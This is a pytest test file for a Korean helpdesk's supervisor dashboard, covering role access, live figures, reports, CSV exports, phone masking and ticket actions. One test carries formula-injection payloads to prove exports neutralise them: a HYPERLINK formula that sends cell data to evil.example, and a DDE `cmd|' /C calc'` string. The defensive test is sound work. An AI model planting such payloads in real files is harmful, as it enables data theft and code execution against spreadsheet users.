"""The supervisor dashboard: who gets in, the figures it shows, its CSV files and the actions it offers."""

from __future__ import annotations

import csv
import io
import re
from collections import Counter
from datetime import date, timedelta
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from supervisor import exports
from tests.spreadsheet import rows_as_shown, shown
from tests.supervisor import report_fixture as fx
from tickets import accounts, auth, clock
from tickets.clock import FrozenClock
from tickets.models import Escalation, OutboxMessage, Ticket, TicketEvent, User

OPEN = ("new", "assigned", "in_progress", "waiting")
GET_PAGES = (
    "/supervisor/",
    "/supervisor/live.json",
    "/supervisor/reports",
    "/supervisor/reports.json",
    "/supervisor/export/tickets.csv?reason=test",
    "/supervisor/export/monthly.csv?reason=test",
)


@pytest.fixture
def clocked(app: Flask, clock: FrozenClock) -> Flask:
    clock.move_to(fx.NOW)
    return app


def _user(session: Session, username: str, role: str, fields: tuple[str, ...] = ()) -> User:
    return accounts.add_user(session, username, role, display_name=f"{username} 님", fields=fields)


def _log_in(client: Any, user: User) -> str:
    with client.session_transaction() as cookie:
        cookie.update(auth.session_for(user, clock.now()))
        cookie["csrf"] = "test-csrf-token"
    return "test-csrf-token"


@pytest.fixture
def supervisor(session: Session) -> User:
    user = _user(session, "boss", "supervisor")
    session.commit()  # to the test's savepoint: survives a request that answers 4xx and rolls back
    return user


@pytest.fixture
def history(session: Session, clocked: Flask) -> list[fx.Spec]:
    specs = fx.make_specs()
    fx.write(session, specs)
    fx.write_calls(session)
    # Committed (to the test's savepoint): a request answering 4xx rolls its session back, which is this one.
    session.commit()
    return specs


# --- who gets in ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", GET_PAGES)
def test_consultants_get_403(session: Session, client: Any, clocked: Flask, path: str) -> None:
    _log_in(client, _user(session, "it-kim", "consultant", ("it",)))
    assert client.get(path).status_code == 403


@pytest.mark.parametrize("role", ["supervisor", "admin"])
@pytest.mark.parametrize("path", GET_PAGES)
def test_supervisors_and_admins_get_in(
    session: Session, client: Any, clocked: Flask, role: str, path: str
) -> None:
    _log_in(client, _user(session, f"someone-{role}", role))
    assert client.get(path).status_code == 200


def test_strangers_are_sent_to_the_login_page(client: Any, clocked: Flask) -> None:
    response = client.get("/supervisor/")
    assert response.status_code == 302 and "login" in response.headers["Location"]
    assert client.get("/supervisor/live.json").status_code == 302


def test_consultants_cannot_act(session: Session, client: Any, history: list[fx.Spec]) -> None:
    csrf = _log_in(client, _user(session, "it-kim", "consultant", ("it",)))
    reference = next(s.reference for s in history if s.status in OPEN)
    response = client.post(
        f"/supervisor/tickets/{reference}/assign", data={"csrf_token": csrf, "username": "it-kim"}
    )
    assert response.status_code == 403


# --- the live figures -------------------------------------------------------------------------------------


def _expected_backlog(specs: list[fx.Spec]) -> dict[str, dict[str, int]]:
    table: dict[str, dict[str, int]] = {}
    for s in specs:
        if s.status in OPEN:
            row = table.setdefault(s.field, {"overdue": 0})
            row[s.status] = row.get(s.status, 0) + 1
            row["overdue"] += s.sla_due_at <= fx.NOW
    return table


def _today_tickets() -> list[tuple[str, str]]:
    """(status, field) of the open tickets write_calls adds: all 'new', field 'it', due in three days."""
    return [("new", "it")] * 5


def test_live_json_equals_the_figures_computed_from_the_data(
    session: Session, client: Any, supervisor: User, history: list[fx.Spec]
) -> None:
    _log_in(client, supervisor)
    data = client.get("/supervisor/live.json").get_json()

    backlog = _expected_backlog(history)
    for status, field_key in _today_tickets():
        backlog.setdefault(field_key, {"overdue": 0})[status] = backlog[field_key].get(status, 0) + 1
    assert data["backlog"] == backlog

    open_specs = [s for s in history if s.status in OPEN]
    assert data["deadlines"] == {
        "overdue": sum(s.sla_due_at <= fx.NOW for s in open_specs),
        "due_soon": sum(fx.NOW < s.sla_due_at <= fx.NOW + timedelta(hours=24) for s in open_specs),
    }
    alerts = [(s, level) for s in open_specs for level, _ in s.escalations]
    assert data["alerts_total"] == len(alerts)
    levels = [a["level"] for a in data["alerts"]]
    assert levels == sorted(levels, reverse=True) and len(levels) == min(len(alerts), 50)

    assert data["calls"] == {
        "total": 6,
        "completed": 2,
        "in_progress": 1,
        "incomplete": 3,
        "no_callable_number": 3,
        "missed": 0,
    }
    general = [s for s in open_specs if s.field == "general"]
    assert data["pool_total"] == len(general)
    assert [p["reference"] for p in data["pool"]] == [
        s.reference for s in sorted(general, key=lambda s: s.created_at)
    ][:50]
    (consultant,) = data["consultants"]
    assert consultant["open"] == sum(s.status != "new" for s in open_specs)
    assert consultant["overdue"] == sum(s.status != "new" and s.sla_due_at <= fx.NOW for s in open_specs)
    assert data["scheduler"]["alive"] is False


def test_acknowledging_an_alert_takes_it_off_the_list_once(
    session: Session, client: Any, supervisor: User, history: list[fx.Spec]
) -> None:
    csrf = _log_in(client, supervisor)
    before = client.get("/supervisor/live.json").get_json()
    alert_id = before["alerts"][0]["id"]
    response = client.post(f"/supervisor/alerts/{alert_id}/ack", data={"csrf_token": csrf})
    assert response.status_code == 302
    escalation = session.get(Escalation, alert_id)
    assert escalation is not None
    assert (escalation.acknowledged_at, escalation.acknowledged_by_id) == (fx.NOW, supervisor.id)
    after = client.get("/supervisor/live.json").get_json()
    assert after["alerts_total"] == before["alerts_total"] - 1
    assert alert_id not in [a["id"] for a in after["alerts"]]
    # Again: harmless, the first acknowledgement stands and one event is written.
    assert client.post(f"/supervisor/alerts/{alert_id}/ack", data={"csrf_token": csrf}).status_code == 302
    acknowledged = session.scalars(
        select(TicketEvent).where(
            TicketEvent.ticket_id == escalation.ticket_id, TicketEvent.type == "sla_alert_acknowledged"
        )
    ).all()
    assert [e.actor_id for e in acknowledged] == [supervisor.id]
    assert client.post("/supervisor/alerts/999999/ack", data={"csrf_token": csrf}).status_code == 404


def _open_alerts_by_field(session: Session) -> Counter[str]:
    rows = session.execute(
        select(Ticket.field)
        .join(Escalation, Escalation.ticket_id == Ticket.id)
        .where(Escalation.acknowledged_at.is_(None), Ticket.status.in_(OPEN))
    )
    return Counter(field_key for (field_key,) in rows)


def test_a_supervisor_sees_and_acknowledges_only_the_alerts_of_their_fields(
    session: Session, client: Any, history: list[fx.Spec]
) -> None:
    # The same scope as GET /api/v1/sla/alerts: a supervisor of fields sees those; an admin sees all.
    by_field = _open_alerts_by_field(session)
    assert by_field["it"] and by_field["bio"]
    it_boss = _user(session, "it-boss", "supervisor", ("it",))
    admin = _user(session, "root", "admin")
    session.commit()

    csrf = _log_in(client, it_boss)
    mine = client.get("/supervisor/live.json").get_json()
    assert mine["alerts_total"] == by_field["it"]
    assert {a["field"] for a in mine["alerts"]} == {"it"}
    page = client.get("/supervisor/").get_data(as_text=True)
    assert f"(미확인 {by_field['it']}건" in page and 'id="alert-scope"' in page

    bio_alert = session.scalar(
        select(Escalation)
        .join(Ticket, Ticket.id == Escalation.ticket_id)
        .where(Ticket.field == "bio", Escalation.acknowledged_at.is_(None))
    )
    assert bio_alert is not None
    refused = client.post(f"/supervisor/alerts/{bio_alert.id}/ack", data={"csrf_token": csrf})
    assert refused.status_code == 404
    session.refresh(bio_alert)
    assert bio_alert.acknowledged_at is None

    _log_in(client, admin)
    assert client.get("/supervisor/live.json").get_json()["alerts_total"] == sum(by_field.values())


def test_consultants_cannot_acknowledge(session: Session, client: Any, history: list[fx.Spec]) -> None:
    alert = session.scalar(select(Escalation).where(Escalation.acknowledged_at.is_(None)))
    assert alert is not None
    csrf = _log_in(client, _user(session, "it-kim", "consultant", ("it",)))
    assert client.post(f"/supervisor/alerts/{alert.id}/ack", data={"csrf_token": csrf}).status_code == 403
    assert alert.acknowledged_at is None


def test_dead_notifications_are_counted_and_listed(
    session: Session, client: Any, supervisor: User, history: list[fx.Spec]
) -> None:
    for n, status in enumerate(("dead", "dead", "sent", "pending")):
        session.add(
            OutboxMessage(
                key=f"test-{n}",
                channel="sms",
                recipient="+821012345678",
                payload={},
                status=status,
                last_error="503",
            )
        )
    session.flush()
    _log_in(client, supervisor)
    data = client.get("/supervisor/live.json").get_json()
    assert data["dead_total"] == 2 and len(data["dead"]) == 2
    page = client.get("/supervisor/").get_data(as_text=True)
    assert '발송 실패 알림 <span class="count">(2건)</span>' in page


def test_the_page_shows_the_same_numbers(
    session: Session, client: Any, supervisor: User, history: list[fx.Spec]
) -> None:
    _log_in(client, supervisor)
    data = client.get("/supervisor/live.json").get_json()
    page = client.get("/supervisor/").get_data(as_text=True)
    assert re.search(rf'id="tile-alerts">{data["alerts_total"]}<', page)
    for name, value in data["calls"].items():
        assert re.search(rf'data-figure="{name}"[^>]*>{value}<', page), name
    it_row = re.search(r'<tr data-field="it">(.*?)</tr>', page, re.S)
    assert it_row is not None
    cells = re.findall(r'<td class="num[^"]*">(?:<a [^>]*>)?(\d+)(?:</a>)?</td>', it_row.group(1))
    row = data["backlog"]["it"]
    assert [int(c) for c in cells] == [row.get(s, 0) for s in OPEN] + [row["overdue"]]
    assert "정보통신(IT)" in page  # fields by their Korean names
    # The page polls the fragments of the live endpoint.
    assert "/supervisor/live.json?fragments=1" in page
    fragments = client.get("/supervisor/live.json?fragments=1").get_json()["fragments"]
    assert set(fragments) == {"status", "alerts", "backlog", "consultants", "calls", "pool", "dead"}


# --- reports, charts and CSV ------------------------------------------------------------------------------


def test_report_json_and_page_match_the_data(
    session: Session, client: Any, supervisor: User, history: list[fx.Spec]
) -> None:
    _log_in(client, supervisor)
    query = "first=2026-10-01&last=2026-10-31&field=it"
    data = client.get(f"/supervisor/reports.json?{query}").get_json()
    chosen = fx.in_period(history, date(2026, 10, 1), date(2026, 10, 31), "it")
    met, breached = sum(map(fx.met, chosen)), sum(map(fx.breached, chosen))
    assert data["received"] == len(chosen)
    assert data["by_support_type"] == {k or "": n for k, n in Counter(s.support_type for s in chosen).items()}
    assert data["sla_compliance"] == {
        "met": met,
        "breached": breached,
        "percent": round(100 * met / (met + breached), 1),
    }
    close = [(s.finished_at - s.created_at).total_seconds() for s in chosen if s.finished and s.finished_at]
    assert data["time_to_close"]["median"] == pytest.approx(fx.median(close), abs=0.2)
    assert data["time_to_close"]["p90"] == pytest.approx(fx.percentile(close, 0.9), abs=0.2)
    assert [d["received"] for d in data["daily"]] == [
        len(fx.in_period(chosen, d, d)) for d in (date(2026, 10, 1) + timedelta(n) for n in range(31))
    ]

    page = client.get(f"/supervisor/reports?{query}").get_data(as_text=True)
    assert re.search(rf'data-figure="received">{len(chosen)}<', page)
    assert re.search(rf'data-figure="compliance">{round(100 * met / (met + breached), 1):.1f}%<', page)
    # Daily volume as an inline SVG: one bar per day of the period, each titled with its figure.
    busiest = max(
        (len(fx.in_period(chosen, d, d)), d) for d in (date(2026, 10, 1) + timedelta(n) for n in range(31))
    )
    assert f"<title>{busiest[1]}: {busiest[0]}</title></rect>" in page
    volume = re.search(r'<svg [^>]*aria-label="일별 접수[^"]*".*?</svg>', page, re.S)
    assert volume is not None and volume.group(0).count('class="bar"') == 31
    assert "지원유형별 비중" in page and "<svg" in page


def test_a_bad_period_is_refused(session: Session, client: Any, supervisor: User, clocked: Flask) -> None:
    _log_in(client, supervisor)
    assert client.get("/supervisor/reports?first=2026-11-02&last=2026-11-01").status_code == 400
    assert client.get("/supervisor/reports?first=yesterday").status_code == 400
    assert client.get("/supervisor/reports?field=astrology").status_code == 400


def _csv_rows(response: Any) -> list[list[str]]:
    """The export's cells as a spreadsheet shows them."""
    return rows_as_shown(response.get_data())


def _raw_csv_rows(response: Any) -> list[list[str]]:
    """The export's cells as written, before a spreadsheet reads them."""
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def test_ticket_csv_has_a_bom_korean_headers_and_every_ticket(
    session: Session, client: Any, supervisor: User, history: list[fx.Spec]
) -> None:
    resolved_late = next(s for s in history if s.finished and s.created_at.month == 10)
    marked = session.scalar(select(Ticket).where(Ticket.reference == resolved_late.reference))
    assert marked is not None
    marked.resolution_summary, marked.escalation_level, marked.company = "=장비 안내", 2, "한빛정밀"
    session.commit()
    _log_in(client, supervisor)
    response = client.get("/supervisor/export/tickets.csv?first=2026-10-01&last=2026-10-31&reason=test")
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    header, *rows = _csv_rows(response)
    assert header[:4] == ["접수번호", "접수일시", "분야", "지원유형"]
    chosen = fx.in_period(history, date(2026, 10, 1), date(2026, 10, 31))
    assert sorted(r[0] for r in rows) == sorted(s.reference for s in chosen)
    by_reference = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    spec = next(s for s in chosen if s.field == "it" and s.support_type == "advice")
    row = by_reference[spec.reference]
    assert row["분야"] == "정보통신(IT)" and row["지원유형"] == "기술자문"
    assert row["접수일시"] == spec.created_at.astimezone(fx.SEOUL).strftime("%Y-%m-%d %H:%M")
    finished = next(s for s in chosen if s.finished and s.finished_at)
    assert by_reference[finished.reference]["기한 준수"] == ("예" if fx.met(finished) else "아니오")
    # Levels and statuses by their on-screen names, and the resolution summary people wrote.
    assert {r["경보 단계"] for r in by_reference.values()} <= {"", "기한 초과", "2단계 상향", "3단계 상향"}
    assert {r["상태"] for r in by_reference.values()} <= {"신규", "배정됨", "처리 중", "보류", "해결", "종결"}
    assert by_reference[marked.reference]["경보 단계"] == "2단계 상향"
    assert by_reference[marked.reference]["처리 요약"] == "'=장비 안내"  # text, never a formula
    assert by_reference[marked.reference]["회사명"] == "한빛정밀"


def test_monthly_csv_matches_the_monthly_figures(
    session: Session, client: Any, supervisor: User, history: list[fx.Spec]
) -> None:
    _log_in(client, supervisor)
    response = client.get(
        "/supervisor/export/monthly.csv?first=2026-10-01&last=2026-11-27&field=bio&reason=test"
    )
    header, *rows = _csv_rows(response)
    assert header[0] == "월" and "장비활용" in header and header[-1] == "기한 준수율(%)"
    assert [r[0] for r in rows] == ["2026-10", "2026-11"]
    for row in rows:
        year, month = map(int, row[0].split("-"))
        chosen = [
            s
            for s in fx.in_period(history, date(2026, 10, 1), date(2026, 11, 27), "bio")
            if (s.local_day.year, s.local_day.month) == (year, month)
        ]
        figures = dict(zip(header, row, strict=True))
        assert int(figures["접수"]) == len(chosen)
        assert int(figures["장비활용"]) == sum(s.support_type == "equipment" for s in chosen)
        assert int(figures["기한 내 완료"]) == sum(map(fx.met, chosen))
    # Figures are numbers a supervisor can sum and chart: none is written as text (="…" or '…).
    for raw in _raw_csv_rows(response)[1:]:
        assert all(not cell.startswith(("=", "'")) for cell in raw[1:]), raw


def test_ticket_csv_reads_batch_after_batch_without_losing_or_repeating_a_ticket(
    session: Session,
    client: Any,
    supervisor: User,
    history: list[fx.Spec],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(exports, "BATCH", 7)
    # Ten tickets received in the same second straddle a batch boundary: order and resume by id too.
    same_second = fx.NOW - timedelta(days=1)
    for index in range(10):
        session.add(Ticket(reference=f"5{index:03d}-0000", field="it", created_at=same_second))
    session.commit()
    _log_in(client, supervisor)
    _, *rows = _csv_rows(
        client.get("/supervisor/export/tickets.csv?first=2026-10-01&last=2026-11-27&reason=test")
    )
    expected = fx.in_period(history, date(2026, 10, 1), date(2026, 11, 27))
    references = [r[0] for r in rows]
    assert len(references) == len(set(references))
    assert set(references) >= {s.reference for s in expected} | {f"5{i:03d}-0000" for i in range(10)}


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
EXPORT_27 = "/supervisor/export/tickets.csv?first=2026-11-27&last=2026-11-27&reason=test"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
    session: Session, client: Any, supervisor: User, clocked: Flask, start: str
) -> None:
    # An admin sets display names; the company and notes a caller or consultant types are not exported,
    # and no cell at all may start a formula.
    name = f'{start}HYPERLINK("http://evil.example/?x="&A1,"상담원")'
    consultant = _user(session, "sneaky", "consultant", ("it",))
    consultant.display_name = name
    ticket = Ticket(
        reference="6000-0000", field="it", status="assigned", assignee=consultant, created_at=fx.NOW
    )
    session.add(ticket)
    session.flush()
    session.add(TicketEvent(ticket=ticket, type="note", detail={"text": f"{start}cmd|' /C calc'!A0"}))
    session.commit()
    _log_in(client, supervisor)
    header, *rows = _csv_rows(client.get(EXPORT_27))
    row = dict(zip(header, rows[0], strict=True))
    assert row["담당자"] == "'" + name
    # The one formula a cell may hold is the text literal that keeps a reference as text: ="6000-0000".
    written = [cell for r in _raw_csv_rows(client.get(EXPORT_27)) for cell in r]
    assert '="6000-0000"' in written
    formulas = [cell for cell in written if cell.startswith(FORMULA_STARTS)]
    assert formulas and all(re.fullmatch(r'="[\d-]+"', cell) for cell in formulas)


def test_references_and_digit_strings_stay_text_and_counts_stay_numbers(
    session: Session, client: Any, supervisor: User, clocked: Flask
) -> None:
    # Excel would read 0012-2030 as December 2030, drop the zero of 0424, round a 16-digit number and
    # turn 2026-11 into Nov-26: each is written as a text literal. Counts are summed: they stay numbers.
    session.add_all(
        [
            Ticket(reference="0012-2030", field="it", company="0424", created_at=fx.NOW),
            Ticket(
                reference="1234-5678",
                field="it",
                company="1234567890123456",
                resolution_summary="2026-11",
                created_at=fx.NOW,
            ),
        ]
    )
    session.commit()
    _log_in(client, supervisor)
    header, *rows = _raw_csv_rows(client.get(EXPORT_27))
    written = {shown(r[0]): dict(zip(header, r, strict=True)) for r in rows}
    assert written["0012-2030"]["접수번호"] == '="0012-2030"'
    assert written["0012-2030"]["회사명"] == '="0424"'
    assert written["1234-5678"]["회사명"] == '="1234567890123456"'
    assert written["1234-5678"]["처리 요약"] == '="2026-11"'
    assert written["1234-5678"]["접수일시"] == "2026-11-27 12:00"  # a date the spreadsheet may read as one
    assert written["1234-5678"]["분야"] == "정보통신(IT)"

    header, *rows = _raw_csv_rows(
        client.get("/supervisor/export/monthly.csv?first=2026-11-01&last=2026-11-27&reason=test")
    )
    month = dict(zip(header, rows[-1], strict=True))
    assert month["월"] == '="2026-11"'
    assert month["접수"].isdigit() and int(month["접수"]) >= 2  # a number: a column of them sums


def test_callback_numbers_in_the_csv_are_masked(
    session: Session, client: Any, supervisor: User, clocked: Flask
) -> None:
    for reference, number in (("7000-0000", "+821012345678"), ("7001-0000", "+16502530000")):
        session.add(Ticket(reference=reference, field="it", callback_number=number, created_at=fx.NOW))
    session.commit()
    _log_in(client, supervisor)
    header, *rows = _csv_rows(
        client.get("/supervisor/export/tickets.csv?first=2026-11-27&last=2026-11-27&reason=test")
    )
    numbers = {r[0]: dict(zip(header, r, strict=True))["회신번호"] for r in rows}
    # Masked as 010-****-5678 (an export leaves the system); a foreign one keeps its + behind the quote
    # that keeps the spreadsheet from computing it.
    assert numbers == {"7000-0000": "010-****-5678", "7001-0000": "'+1 ***-***-0000"}


def test_a_reopened_ticket_is_exported_as_not_finished(
    session: Session, client: Any, supervisor: User, clocked: Flask
) -> None:
    due, done = fx.NOW + timedelta(days=3), fx.NOW + timedelta(hours=2)
    for reference, status in (("7100-0000", "resolved"), ("7101-0000", "in_progress")):
        # 7101 was resolved too, then reopened when the company called back: its old time no longer counts
        session.add(
            Ticket(reference=reference, field="it", status=status, created_at=fx.NOW, sla_due_at=due,
                   resolved_at=done)
        )  # fmt: skip
    session.commit()
    _log_in(client, supervisor)
    header, *rows = _csv_rows(
        client.get("/supervisor/export/tickets.csv?first=2026-11-27&last=2026-11-27&reason=test")
    )
    by_reference = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    assert by_reference["7100-0000"]["완료일시"] != "" and by_reference["7100-0000"]["기한 준수"] == "예"
    assert by_reference["7101-0000"]["완료일시"] == "" and by_reference["7101-0000"]["기한 준수"] == ""


# --- actions ----------------------------------------------------------------------------------------------


def test_a_supervisor_reassigns_a_ticket(
    session: Session, client: Any, supervisor: User, history: list[fx.Spec]
) -> None:
    consultant = _user(session, "it-park", "consultant", ("it",))
    spec = next(s for s in history if s.field == "it" and s.status in ("assigned", "in_progress"))
    csrf = _log_in(client, supervisor)
    response = client.post(
        f"/supervisor/tickets/{spec.reference}/assign", data={"csrf_token": csrf, "username": "it-park"}
    )
    assert response.status_code == 302
    ticket = session.scalar(select(Ticket).where(Ticket.reference == spec.reference))
    assert ticket is not None and ticket.assignee_id == consultant.id
    event = session.scalar(
        select(TicketEvent).where(TicketEvent.ticket_id == ticket.id, TicketEvent.type == "reassigned")
    )
    assert event is not None and event.actor_id == supervisor.id
    assert "it-park 님에게 배정했습니다" in client.get("/supervisor/").get_data(as_text=True)


def test_reassigning_needs_the_csrf_token_and_a_consultant_of_the_field(
    session: Session, client: Any, supervisor: User, history: list[fx.Spec]
) -> None:
    _user(session, "bio-lee", "consultant", ("bio",))
    session.commit()
    spec = next(s for s in history if s.field == "it" and s.status in OPEN)
    csrf = _log_in(client, supervisor)
    url = f"/supervisor/tickets/{spec.reference}/assign"
    assert client.post(url, data={"username": "bio-lee"}).status_code == 400
    assert client.post(url, data={"csrf_token": csrf, "username": "bio-lee"}).status_code == 409
    assert client.post(url, data={"csrf_token": csrf, "username": "nobody"}).status_code == 400
    assert client.post("/supervisor/tickets/0000-0000/assign", data={"csrf_token": csrf}).status_code == 404


def test_triage_sets_the_field_and_routes_the_ticket(
    session: Session, client: Any, supervisor: User, history: list[fx.Spec]
) -> None:
    consultant = _user(session, "bio-lee", "consultant", ("bio",))
    spec = next(s for s in history if s.field == "general" and s.status == "new")
    csrf = _log_in(client, supervisor)
    response = client.post(
        f"/supervisor/tickets/{spec.reference}/field", data={"csrf_token": csrf, "field": "bio"}
    )
    assert response.status_code == 302
    ticket = session.scalar(select(Ticket).where(Ticket.reference == spec.reference))
    assert ticket is not None and (ticket.field, ticket.status, ticket.assignee_id) == (
        "bio",
        "assigned",
        consultant.id,
    )
    pool = client.get("/supervisor/live.json").get_json()["pool"]
    assert spec.reference not in [p["reference"] for p in pool]
    assert (
        client.post(
            f"/supervisor/tickets/{spec.reference}/field", data={"csrf_token": csrf, "field": "bio"}
        ).status_code
        == 409
    )  # no longer in the pool


def test_the_triage_pool_and_live_json_show_callback_numbers_masked(
    session: Session, client: Any, supervisor: User, history: list[fx.Spec]
) -> None:
    spec = next(s for s in history if s.field == "general" and s.status == "new")
    ticket = session.scalar(select(Ticket).where(Ticket.reference == spec.reference))
    assert ticket is not None
    ticket.callback_number = "+821098761234"
    session.flush()
    _log_in(client, supervisor)
    page = client.get("/supervisor/").get_data(as_text=True)
    assert "010-****-1234" in page and "9876" not in page
    live = client.get("/supervisor/live.json?fragments=1").get_data(as_text=True)
    assert "010-****-1234" in live and "9876" not in live


def test_the_dashboard_calls_away_whom_routing_skips(session: Session, client: Any, clocked: Flask) -> None:
    """Away until a date with no start date set is away today, as routing has it."""
    supervisor = _user(session, "boss", "supervisor", ("it",))
    until_friday = _user(session, "it-kim", "consultant", ("it",))
    until_friday.away_until = fx.NOW.date() + timedelta(days=3)
    _user(session, "it-lee", "consultant", ("it",))
    session.flush()
    _log_in(client, supervisor)
    away = {c["username"]: c["away"] for c in client.get("/supervisor/live.json").get_json()["consultants"]}
    assert away == {"it-kim": True, "it-lee": False}


# --- supervisors act; admins look ------------------------------------------------------------------------


def _pool_references(page: str) -> list[str]:
    pool = page[page.index('id="pool"') :]
    return re.findall(r'<tr data-reference="([^"]+)"', pool)


def _actions(page: str) -> list[str]:
    return re.findall(r'<form[^>]*action="(/supervisor/[^"]+)"', page)


def test_admins_see_the_dashboard_without_its_buttons_and_may_not_act(
    session: Session, client: Any, history: list[fx.Spec]
) -> None:
    boss, admin = _user(session, "boss", "supervisor"), _user(session, "root", "admin")
    _user(session, "any-kim", "consultant", fx.FIELDS)  # someone to reassign to
    session.commit()

    _log_in(client, boss)
    page = client.get("/supervisor/").get_data(as_text=True)
    alert = session.get(Escalation, int(re.findall(r'data-alert="(\d+)"', page)[0]))
    pooled = session.scalar(select(Ticket).where(Ticket.reference == _pool_references(page)[0]))
    assert alert is not None and pooled is not None and pooled.field == "general"
    offered = _actions(page)
    assert "/supervisor/alerts/ack" in offered  # a ticket's alerts acknowledged with one button
    assert f"/supervisor/tickets/{pooled.reference}/field" in offered
    assert any(action.endswith("/assign") for action in offered)

    csrf = _log_in(client, admin)
    page = client.get("/supervisor/").get_data(as_text=True)
    assert f'data-alert="{alert.id}"' in page and f'data-reference="{pooled.reference}"' in page  # they see
    assert _actions(page) == []
    fragments = client.get("/supervisor/live.json?fragments=1").get_json()["fragments"]
    assert _actions("".join(fragments.values())) == []
    attempts = {
        f"/supervisor/alerts/{alert.id}/ack": {},
        "/supervisor/alerts/ack": {"alert_id": str(alert.id)},
        f"/supervisor/tickets/{pooled.reference}/field": {"field": "it"},
        f"/supervisor/tickets/{pooled.reference}/assign": {"username": "boss"},
    }
    for path, form in attempts.items():
        assert client.post(path, data={"csrf_token": csrf, **form}).status_code == 403, path
    session.refresh(alert)
    session.refresh(pooled)
    assert alert.acknowledged_at is None
    assert (pooled.field, pooled.assignee_id) == ("general", None)


def test_a_ticket_with_several_alerts_is_one_row_at_its_highest_level(
    session: Session, client: Any, supervisor: User, history: list[fx.Spec]
) -> None:
    # An open ticket long past its deadline, warned and then escalated twice, none acknowledged.
    late = session.scalars(
        select(Ticket).where(Ticket.status.in_(OPEN), Ticket.sla_due_at < fx.NOW - timedelta(hours=30))
    ).first()
    assert late is not None
    taken = set()
    for escalation in session.scalars(select(Escalation).where(Escalation.ticket_id == late.id)):
        escalation.acknowledged_at = escalation.acknowledged_by_id = None
        taken.add((escalation.sla_round, escalation.level))
    for level in {0, 1, 2} - {lv for rnd, lv in taken if rnd == late.sla_round}:
        session.add(Escalation(ticket_id=late.id, sla_round=late.sla_round, level=level, due_at=fx.NOW))
    others = update(Escalation).where(Escalation.ticket_id != late.id).values(acknowledged_at=fx.NOW)
    session.execute(others)  # only this ticket's alerts wait, so all of them fit the list
    session.flush()
    csrf = _log_in(client, supervisor)
    data = client.get("/supervisor/live.json").get_json()
    levels: dict[str, list[int]] = {}
    for alert in data["alerts"]:
        levels.setdefault(alert["reference"], []).append(alert["level"])
    reference, its_levels = late.reference, levels[late.reference]
    assert len(its_levels) > 1
    page = client.get("/supervisor/").get_data(as_text=True)
    rows = re.findall(rf'<tr data-alert="\d+" data-reference="{reference}">(.*?)</tr>', page, re.S)
    assert len(rows) == 1  # not a yellow 기한 임박 row beside the red one
    top = max(its_levels)
    assert ("기한 임박" if top == 0 else "기한 초과" if top == 1 else f"{top}단계 상향") in rows[0]
    assert "시간 초과" in rows[0]  # how long it is overdue
    ids = [a["id"] for a in data["alerts"] if a["reference"] == reference]
    client.post("/supervisor/alerts/ack", data={"csrf_token": csrf, "alert_id": ids})
    after = client.get("/supervisor/live.json").get_json()
    assert reference not in [a["reference"] for a in after["alerts"]]
    # Acknowledged, the ticket is still on the overdue list the tile opens.
    overdue = client.get("/console/?due=overdue").get_data(as_text=True)
    assert f'data-reference="{reference}"' in overdue


def test_the_general_pool_plays_each_callers_message_inline(
    session: Session, client: Any, supervisor: User, history: list[fx.Spec]
) -> None:
    _log_in(client, supervisor)
    first = _pool_references(client.get("/supervisor/").get_data(as_text=True))[0]
    ticket = session.scalar(select(Ticket).where(Ticket.reference == first))
    assert ticket is not None
    ticket.recording_sid = "RE" + "1" * 32
    ticket.recording_url = "https://api.twilio.com/2010-04-01/Accounts/AC1/Recordings/" + ticket.recording_sid
    session.commit()
    page = client.get("/supervisor/").get_data(as_text=True)
    pool = page[page.index('id="pool"') :]
    assert f'src="/console/tickets/{first}/recording"' in pool  # through the app's proxy, never Twilio's
    assert "api.twilio.com" not in page
    assert page.index('id="live-pool"') < page.index('id="live-alerts"')  # triage first while non-empty
